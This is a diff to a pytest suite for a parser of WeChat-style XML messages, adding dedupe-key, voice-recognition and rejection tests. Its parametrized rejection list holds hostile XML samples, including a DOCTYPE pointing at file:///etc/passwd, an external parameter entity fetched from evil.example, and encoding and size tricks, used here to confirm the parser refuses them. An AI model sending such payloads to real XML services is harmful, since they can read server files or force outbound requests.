@@ -41,7 +41,24 @@ def test_a_text_message_is_parsed():
     message = parse_message(parse_fields(TEXT_XML.encode()))
     assert (message.to_user, message.from_user, message.msg_type) == ("gh_daofu", "oUser1", "text")
     assert message.content == "你好" and message.msg_id == "1234567890123456"
-    assert message.dedupe_key == "msg:1234567890123456"
+    assert message.dedupe_key == "msg:gh_daofu:oUser1:1234567890123456"
+
+
+def test_the_same_msg_id_from_another_user_or_account_is_another_message():
+    first = parse_message(parse_fields(TEXT_XML.encode()))
+    other_user = parse_message(parse_fields(TEXT_XML.replace("oUser1", "oUser2").encode()))
+    other_account = parse_message(parse_fields(TEXT_XML.replace("gh_daofu", "gh_other").encode()))
+    assert len({first.dedupe_key, other_user.dedupe_key, other_account.dedupe_key}) == 3
+
+
+def test_a_voice_message_with_recognition_carries_its_words():
+    xml = (
+        "<xml><ToUserName>gh</ToUserName><FromUserName>oUser1</FromUserName><CreateTime>1700000000</CreateTime>"
+        "<MsgType>voice</MsgType><MediaId>m1</MediaId><Format>amr</Format><MsgId>77</MsgId>"
+        "<Recognition>身份证快到期了</Recognition></xml>"
+    )
+    message = parse_message(parse_fields(xml.encode()))
+    assert message.msg_type == "voice" and message.recognition == "身份证快到期了"
 
 
 def test_events_are_identified_by_sender_and_time():
@@ -51,7 +68,7 @@ def test_events_are_identified_by_sender_and_time():
     )
     message = parse_message(parse_fields(xml.encode()))
     assert message.is_event and message.event == "CLICK" and message.event_key == "DAOFU_START"
-    assert message.dedupe_key == "event:oUser1:1700000000:CLICK"
+    assert message.dedupe_key == "event:gh:oUser1:1700000000:CLICK:DAOFU_START"
 
 
 @pytest.mark.parametrize(
@@ -64,6 +81,12 @@ def test_events_are_identified_by_sender_and_time():
         (b"<root><A>1</A></root>", "<xml>"),
         (b'<!DOCTYPE xml [<!ENTITY a "aaaa">]><xml><Content>&a;</Content></xml>', "DOCTYPE"),
         (b'<?xml version="1.0"?><!doctype xml SYSTEM "file:///etc/passwd"><xml/>', "DOCTYPE"),
+        ('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY a "b">]><xml/>'.encode("utf-16"), "UTF-8"),
+        (b'<?xml version="1.0" encoding="ISO-8859-1"?><xml><A>\xe9</A></xml>', "UTF-8"),
+        (b'<?xml version="1.0" encoding="UTF-7"?><xml><A>1</A></xml>', "UTF-8"),
+        (b'<!DOCTYPE xml [<!ENTITY % p SYSTEM "http://evil.example/x">%p;]><xml/>', "DOCTYPE"),
+        (("<xml>" + "<A>1</A>" * 100 + "</xml>").encode(), "more than"),
+        (b"<xml><ToUserName>\xff\xfe</ToUserName></xml>", "UTF-8"),
         (b"<xml><Content>" + b"a" * MAX_BODY_BYTES + b"</Content></xml>", "larger"),
     ],
 )
